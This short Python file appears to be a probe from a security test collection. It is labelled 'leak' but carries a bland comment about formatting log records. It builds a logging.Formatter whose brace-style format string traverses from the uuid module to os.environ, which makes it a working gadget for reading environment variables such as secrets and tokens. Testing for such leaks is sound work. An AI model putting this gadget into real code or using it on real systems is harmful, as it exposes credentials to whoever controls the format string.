# effect: leak
# note: a log record is formatted with its attributes
import logging


def attempt(probe):
    made = logging.Formatter("{args.os.environ[" + probe["env"] + "]}", style="{", validate=False)
    record = logging.LogRecord("n", 10, "p", 1, "m", None, None)
    import uuid

    record.args = uuid
    record.msg = "m"
    record.getMessage = lambda: "m"
    return made.format(record)
